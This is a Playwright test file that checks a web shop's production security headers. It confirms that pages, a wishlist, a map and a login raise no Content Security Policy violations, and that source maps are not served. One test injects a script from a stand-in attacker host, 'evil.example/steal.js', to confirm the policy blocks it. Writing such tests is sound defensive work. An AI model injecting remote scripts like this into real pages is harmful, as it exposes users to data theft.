import type { Page } from '@playwright/test';
import { expect, test } from './test';
import { greeting, login, shopper } from './account-journeys';
import { serveAsHosting, type HostingServer } from './hosting-server';
import { resetBackend } from './qa-backend';
import { routes } from './routes';

// The built shop served as Firebase Hosting serves it (firebase.json's headers, the policy
// widened only by the local backend's addresses), on a port of its own.
let hosting: HostingServer;

test.beforeAll(async () => {
  hosting = await serveAsHosting();
});

test.afterAll(async () => {
  await hosting.close();
});

test.beforeEach(async ({ request }) => {
  await resetBackend(request);
});

const headingOf = (path: string) => routes.find((route) => route.path === path)!.heading;

/**
 * Everything the policy blocks in the page: its own `securitypolicyviolation` events, and
 * Chromium's console report of the same.
 */
async function policyViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      (event) =>
        console.error(
          `CSP violation: ${event.effectiveDirective} ${event.blockedURI} from ${event.sourceFile}:${event.lineNumber}`,
        ),
      true,
    );
  });
  page.on('console', (message) => {
    const text = message.text();
    if (/CSP violation|Content Security Policy/.test(text)) violations.push(text);
  });
  return violations;
}

test('the shop runs under its production headers: pages, a panel, a toast, the map and a login', async ({
  page,
}) => {
  const violations = await policyViolations(page);
  // The map frame is checked against the policy before any request leaves: answer it here.
  await page.route(/^https:\/\/(maps|www)\.google\.com\//, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<p>Map</p>' }),
  );
  const visit = async (path: string) => {
    await page.goto(`${hosting.origin}${path}`);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(headingOf(path));
  };

  await visit('/');

  await visit('/shop');
  const card = page.getByRole('article').first();
  const name = (await card.getByRole('link').textContent()) ?? '';
  await card.getByRole('button', { name: /Add to wishlist/ }).click();
  const toast = page
    .getByRole('alert')
    .filter({ hasText: `${name} has been added to the wishlist!` });
  await expect(toast).toBeVisible();
  await toast.click();
  await expect(toast).toHaveCount(0);
  await page
    .getByRole('button', { name: /^Wishlist/ })
    .filter({ visible: true })
    .first()
    .click();
  const wishlist = page.getByRole('dialog', { name: 'Wishlist' });
  await wishlist.getByRole('link', { name }).click();
  await expect(page).toHaveURL(/\/product-details\/.+\/p-\d{4}$/);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);

  await visit('/contact');
  await page.getByRole('contentinfo').scrollIntoViewIfNeeded();
  await expect(page.locator('iframe[title^="Map"]')).toBeAttached();

  await visit('/login');
  await login(page, shopper);
  await expect(greeting(page, 'Wanjiku')).toBeVisible();

  expect(violations).toEqual([]);
});

test('the policy is enforced: what it does not allow is blocked and reported', async ({ page }) => {
  const violations = await policyViolations(page);
  await page.goto(`${hosting.origin}/about-us`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(headingOf('/about-us'));
  const loaded = await page.evaluate(
    () =>
      new Promise<boolean>((resolve) => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/steal.js';
        script.onload = () => resolve(true);
        script.onerror = () => resolve(false);
        document.head.append(script);
      }),
  );
  expect(loaded).toBe(false);
  await expect.poll(() => violations).toContainEqual(expect.stringMatching(/script-src/));
});

test('source maps are not served', async ({ request }) => {
  const home = await (await request.get(`${hosting.origin}/`)).text();
  const assets = [...home.matchAll(/(?:src|href)="(\/assets\/[^"]+\.(?:js|css))"/g)].map(
    ([, path]) => path!,
  );
  expect(assets.length).toBeGreaterThan(1);
  for (const asset of assets) {
    const file = await request.get(`${hosting.origin}${asset}`);
    expect(file.ok(), asset).toBe(true);
    expect(await file.text(), asset).not.toMatch(/[#@] sourceMappingURL=/);
    const map = await request.get(`${hosting.origin}${asset}.map`);
    expect(map.headers()['content-type'], `${asset}.map`).toMatch(/^text\/html/);
  }
});
